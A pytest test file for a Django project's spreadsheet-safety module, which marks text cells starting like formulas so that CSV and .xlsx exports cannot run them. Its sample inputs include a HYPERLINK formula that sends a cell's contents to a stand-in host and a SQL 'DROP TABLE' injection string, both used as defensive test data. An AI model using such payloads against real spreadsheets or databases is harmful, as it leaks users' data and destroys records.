"""hoptac.core.spreadsheet_safety: text is never a formula, in .xlsx or CSV; and no module
writes a spreadsheet any other way (a scan of the code)."""

from __future__ import annotations

import ast
import csv
import io
import re
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.db import connection

from hoptac.core import spreadsheet_safety as safety
from hoptac.core.tests.test_export_injection import xstring

HOSTILE = (
    '=HYPERLINK("http://x.example/?s="&B2,"Xem")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=1",
    "#N/A",  # openpyxl would make it an error cell
)


# --- CSV ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912 345 678", "'+84 912 345 678"),  # text, even a phone number: OWASP
        ("-5", "'-5"),  # the text "-5"; the number -5 is not marked (below)
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=x", "''=x"),  # so that reading drops one quote and gets "'=x" back
        ("''+x", "'''+x"),
        ("HTX Chè Mỹ Phương", "HTX Chè Mỹ Phương"),
        ("'; DROP TABLE x; --", "'; DROP TABLE x; --"),  # a quote before no trigger
        ("'", "'"),
        ("", ""),
        ("a=1", "a=1"),
        (" =1", " =1"),  # only the first character counts
    ],
)
def test_csv_neutralise_marks_text_that_starts_like_a_formula(text, written):
    assert safety.csv_neutralise(text) == written
    assert safety.csv_restore(written) == text


@pytest.mark.parametrize("text", ["'abc", "'", "''", "'1", "it's", "'=", "'-"])
def test_csv_restore_leaves_text_our_writer_did_not_mark(text):
    expected = text[1:] if text in ("'=", "'-") else text  # "'=" is how "=" is written
    assert safety.csv_restore(text) == expected


def test_csv_restore_undoes_csv_neutralise_for_any_text():
    marks = ["", "'", "''"]
    starts = ["", "=", "+", "-", "@", "\t", "\r", "a", " ", "1"]
    for mark in marks:
        for start in starts:
            for rest in ["", "x", "'", "=1"]:
                text = mark + start + rest
                written = safety.csv_neutralise(text)
                assert not written.startswith(safety.FORMULA_TRIGGERS), text
                assert safety.csv_restore(written) == text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-5, "-5"),
        (Decimal("-1500000"), "-1500000"),
        (Decimal("-2.5"), "-2.5"),
        (-0.25, "-0.25"),
        (True, "TRUE"),
        (None, ""),
        (date(2015, 3, 15), "2015-03-15"),
        (datetime(2015, 3, 15, 8, 30), "2015-03-15 08:30:00"),  # noqa: DTZ001
        ("-5", "'-5"),
    ],
)
def test_csv_cell_writes_numbers_as_numbers_and_marks_only_text(value, written):
    assert safety.csv_cell(value) == written


def test_csv_lines_mark_the_header_titles_and_rows():
    lines = list(
        safety.csv_lines(
            [["=1", -5, "ok"]], header=["@h", "b", "c"], title_rows=[["+t"]], delimiter=";"
        )
    )
    assert lines == ["\ufeff", "'+t\r\n", "'@h;b;c\r\n", "'=1;-5;ok\r\n"]


# --- .xlsx --------------------------------------------------------------------------------


def _cells(data: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_plain_openpyxl_makes_formulas_of_such_text():
    """Why the helper exists (and a check that the tests below can fail)."""
    book = openpyxl.Workbook()
    book.active.append(list(HOSTILE))
    buffer = io.BytesIO()
    book.save(buffer)
    types = {cell.value: cell.data_type for cell in _cells(buffer.getvalue())}
    assert types[HOSTILE[0]] == "f"
    assert types["#N/A"] == "e"


# --- .xlsx written by XlsxWorkbook (rvgsrust-xlsxwriter) ----------------------------------------


def _book_bytes(fill) -> bytes:
    return safety.xlsx_bytes(fill)


def test_the_writer_makes_a_formula_when_asked_to(tmp_path):
    """A check that the test below can fail: the library's own write_formula, which XlsxSheet
    does not expose, makes a formula cell that _cells sees."""
    from rvgsrust_xlsxwriter import Workbook

    path = tmp_path / "f.xlsx"
    book = Workbook(str(path))
    book.add_worksheet("a").write_formula(0, 0, HOSTILE[0])
    book.close()
    assert [c.data_type for c in _cells(path.read_bytes())] == ["f"]


@pytest.mark.parametrize("constant_memory", [True, False])
def test_an_xlsx_workbook_writes_every_text_as_text(constant_memory):
    def fill(book):
        sheet = book.add_sheet("Dữ liệu", constant_memory=constant_memory)
        sheet.write_row(0, [*HOSTILE, -5, Decimal(12), date(2020, 1, 2)], safety.HEADER)
        sheet.write(1, 0, "=2")
        sheet.merge(2, 0, 3, "=3")
        sheet.write_rows(3, [list(HOSTILE), ["@x", date(2021, 5, 6)]], date_columns=frozenset({1}))

    cells = [c for c in _cells(_book_bytes(fill)) if c.value is not None]
    assert [c for c in cells if c.data_type not in ("s", "n", "d", "b")] == []
    texts = [xstring(cell.value) for cell in cells if cell.data_type == "s"]
    assert set(HOSTILE) | {"=2", "=3", "@x"} <= set(texts)  # the text is kept, "\r" and "\t" too
    assert texts.count("\r=1") == 2
    numbers = [cell.value for cell in cells if cell.data_type == "n"]
    assert -5 in numbers
    assert 12 in numbers


def test_xlsx_values_are_typed_and_large_numbers_are_text():
    def fill(book):
        sheet = book.add_sheet("a", constant_memory=True)
        sheet.column(1, num_format=safety.DATE_FORMAT)
        sheet.column(2, num_format=safety.MONEY_FORMAT)
        rows = [
            ["x", date(2015, 3, 15), Decimal(1500000), 2**53, True, 22.25, None],
            ["y", date(1900, 1, 15), Decimal("1e20"), Decimal("2.5"), False, -1.0, "z"],
            ["w", None, 7, 3, None, None, date(2020, 2, 29)],  # a date outside a date column
            ["v", date(1899, 12, 31), None, None, None, None, None],  # Excel has no such date
            ["u", datetime(2021, 5, 6, 7, 30), None, None, None, None, datetime(1899, 1, 2)],  # noqa: DTZ001
        ]
        assert sheet.write_rows(0, rows, date_columns=frozenset({1})) == 5

    book = openpyxl.load_workbook(io.BytesIO(_book_bytes(fill)))
    rows = [list(row) for row in book.active.iter_rows()]
    assert [c.value for c in rows[0]] == [
        "x", datetime(2015, 3, 15), 1500000, str(2**53), True, 22.25, None,  # noqa: DTZ001
    ]  # fmt: skip
    assert rows[0][1].number_format == "dd/mm/yyyy"
    assert rows[0][2].number_format == "#,##0"
    assert rows[0][3].data_type == "s"  # beyond 2**53 a number would lose digits
    assert rows[1][1].value == datetime(1900, 1, 15)  # noqa: DTZ001  (before Excel's 1 March 1900)
    assert rows[1][1].number_format == "dd/mm/yyyy"
    assert (rows[1][2].value, rows[1][2].data_type) == ("100000000000000000000", "s")
    assert rows[1][3].value == 2.5
    assert rows[2][6].value == datetime(2020, 2, 29)  # noqa: DTZ001
    assert rows[2][6].number_format == "dd/mm/yyyy"
    assert (rows[3][1].value, rows[3][1].data_type) == ("31/12/1899", "s")
    assert rows[4][1].value == datetime(2021, 5, 6, 7, 30)  # noqa: DTZ001
    assert rows[4][6].value == "02/01/1899"


def test_xlsx_sheet_titles_are_made_valid_and_unique():
    def fill(book):
        for title in ("Hợp tác xã", "a/b:c", "x" * 40, "Hợp tác xã"):
            book.add_sheet(title).write(0, 0, title)

    book = openpyxl.load_workbook(io.BytesIO(_book_bytes(fill)))
    assert book.sheetnames == ["Hợp tác xã", "a b c", "x" * 31, "Hợp tác xã 2"]


def test_the_long_list_writer_keeps_memory_for_one_batch():
    """write_rows reads its rows lazily: a generator of many rows is never held in a list."""
    consumed = []

    def rows():
        for number in range(5000):
            consumed.append(number)
            yield [f"HTX {number}", number]

    def fill(book):
        sheet = book.add_sheet("a", constant_memory=True)
        count = sheet.write_rows(0, rows(), batch=100)
        assert count == 5000

    data = _book_bytes(fill)
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    values = list(book.worksheets[0].iter_rows(values_only=True))
    assert len(values) == 5000
    assert values[-1] == ("HTX 4999", 4999)


# --- PostgreSQL's COPY writes the same marks --------------------------------------------------


@pytest.mark.django_db
@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY exists on PostgreSQL only")
def test_sql_csv_neutralise_is_csv_neutralise():
    from django.db.models import TextField, Value

    from hoptac.areas.models import AdminUnit

    texts = [
        *HOSTILE,
        "'=x",
        "''-x",
        "'abc",
        "'",
        "a=1",
        "HTX Chè",
        "x\r\ny",
        '"=q"',
        "'; DROP TABLE x; --",
    ]
    with connection.cursor() as cursor:
        for text in texts:
            expression = safety.sql_csv_neutralise(Value(text, output_field=TextField()))
            query = AdminUnit.objects.annotate(v=expression).values_list("v", flat=True)[:1]
            sql, params = query.query.sql_with_params()
            cursor.execute(sql, params)
            assert cursor.fetchone()[0] == safety.csv_neutralise(text), repr(text)


# --- nothing writes a spreadsheet around the helper -------------------------------------------

ROOT = Path(__file__).resolve().parents[2]  # the hoptac package
HELPER = ROOT / "core" / "spreadsheet_safety.py"


_COPY_OUT = re.compile(r"\s*COPY\b.*\bTO\s+STDOUT", re.IGNORECASE | re.DOTALL)


def _literal(node: ast.AST) -> str:
    """The text of a string literal or f-string (its fields as "{}"); "" for anything else."""
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return node.value
    if isinstance(node, ast.JoinedStr):
        return "".join(_literal(part) or "{}" for part in node.values)
    return ""


WORKBOOK_WRITERS = ("rvgsrust_xlsxwriter", "xlsxwriter", "rustpy_xlsxwriter", "pyexcelerate")


def writer_violations(source: str) -> list[str]:
    """What in `source` makes a spreadsheet without hoptac.core.spreadsheet_safety: any use of
    an .xlsx writing library (rvgsrust-xlsxwriter, XlsxWriter…), an openpyxl Workbook, a csv
    writer, a COPY … TO STDOUT, or load_workbook not read-only (a workbook opened to be
    changed and saved)."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import | ast.ImportFrom):
            modules = [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            modules += [a.name for a in node.names] if isinstance(node, ast.Import) else []
            found += [f"imports {m}" for m in modules if m.split(".")[0] in WORKBOOK_WRITERS]
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
            found += [f"imports {a.name}" for a in node.names if a.name == "Workbook"]
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [f"imports csv.{a.name}" for a in node.names if "writer" in a.name.lower()]
        if isinstance(node, ast.Attribute):
            if node.attr == "Workbook":
                found.append("uses openpyxl.Workbook")
            if node.attr in ("writer", "DictWriter") and getattr(node.value, "id", "") == "csv":
                found.append(f"uses csv.{node.attr}")
        if _COPY_OUT.match(_literal(node)):
            found.append("runs COPY … TO STDOUT")
        if isinstance(node, ast.Call):
            name = getattr(node.func, "attr", getattr(node.func, "id", ""))
            read_only = any(
                k.arg == "read_only" and getattr(k.value, "value", None) is True
                for k in node.keywords
            )
            if name == "load_workbook" and not read_only:
                found.append("opens a workbook to change it")
    return found


@pytest.mark.parametrize(
    "source",
    [
        "from rvgsrust_xlsxwriter import Workbook",
        "import rvgsrust_xlsxwriter\nbook = rvgsrust_xlsxwriter.Workbook(p)",
        "import xlsxwriter",
        "from xlsxwriter.workbook import Workbook",
        "from openpyxl import Workbook",
        "import openpyxl\nbook = openpyxl.Workbook()",
        "from openpyxl.workbook import Workbook",
        "import csv\nw = csv.writer(f)",
        "import csv\nw = csv.DictWriter(f, [])",
        "from csv import writer",
        "sql = 'COPY (SELECT 1) TO STDOUT'",
        "cursor.copy(f'COPY ({sql}) TO STDOUT WITH (FORMAT csv)', params)",
        "import openpyxl\nopenpyxl.load_workbook(path)",
    ],
)
def test_the_scan_finds_a_writer_made_around_the_helper(source):
    assert writer_violations(source)


def test_the_scan_passes_reading_and_the_helper():
    assert not writer_violations("import csv\nrows = csv.reader(f)")
    assert not writer_violations("import openpyxl\nopenpyxl.load_workbook(p, read_only=True)")
    assert not writer_violations("from hoptac.core import spreadsheet_safety")
    assert not writer_violations("from hoptac.core.tabular.writing import write_xlsx")
    assert not writer_violations('"""Written by PostgreSQL: `COPY (SELECT …) TO STDOUT`."""')


def test_every_spreadsheet_is_written_through_the_helper():
    """No module of hoptac (tests aside) writes .xlsx or CSV other than through
    hoptac.core.spreadsheet_safety, whose workbooks and CSV writers keep text as text."""
    offenders = {}
    for path in sorted(ROOT.rglob("*.py")):
        if path == HELPER or "tests" in path.relative_to(ROOT).parts:
            continue
        found = writer_violations(path.read_text(encoding="utf-8"))
        if found:
            offenders[str(path.relative_to(ROOT))] = found
    assert offenders == {}
    assert writer_violations(HELPER.read_text(encoding="utf-8"))  # the scan sees the helper's


def test_csv_module_quotes_as_excel_reads_it():
    """csv_lines' output read back by Python's csv module gives the marked cells."""
    text = "".join(safety.csv_lines([["=1", "a,b", "x\r\ny"]], header=["h1", "h2", "h3"]))
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert rows == [["h1", "h2", "h3"], ["'=1", "a,b", "x\r\ny"]]
